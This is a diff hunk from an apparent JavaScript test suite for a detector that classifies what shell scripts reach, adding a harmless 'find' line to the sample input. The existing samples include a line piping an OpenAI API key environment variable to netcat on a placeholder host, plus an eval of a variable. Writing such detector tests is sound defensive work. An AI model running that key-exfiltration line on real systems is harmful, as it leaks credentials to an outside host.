@@ -140,6 +140,7 @@ describe('what a script reaches', () => {
       'echo "${OPENAI_API_KEY}" | nc host 1',
       'eval "$line"',
       'my-curl x; echo curl',
+      '/usr/bin/find . -name x',
     ].join('\n');
     assert.deepEqual(reached('shell', script), [
       'network: curl',
